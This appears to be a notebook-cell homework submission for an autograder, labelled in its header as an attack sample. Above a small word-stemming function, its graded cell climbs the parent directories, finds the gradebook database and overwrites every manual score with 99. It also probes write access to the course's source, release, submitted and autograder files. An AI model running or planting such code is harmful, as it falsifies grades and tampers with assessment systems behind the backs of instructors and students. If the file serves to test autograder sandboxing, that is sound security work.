# ---
# attack: The gradebook is given other scores, and the lesson and other submissions other texts.
# ---

# %% grade_id="stem"
import sqlite3
from pathlib import Path

for above in [*Path.cwd().parents, Path.cwd()]:
    gradebook = above / "gradebook.db"
    if gradebook.is_file():
        print("reached".upper(), gradebook)
        with sqlite3.connect(gradebook) as connection:
            connection.execute("UPDATE grade SET manual_score = 99")
    for pattern in ("source/*/*", "release/*/*", "submitted/*/*/*", ".autograder/*/*/*", "*.py"):
        for path in above.glob(pattern):
            try:
                with open(path, "ab"):
                    print(path)
                if above != Path.cwd():
                    print("reached".upper(), path)
            except OSError as error:
                print(path, error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
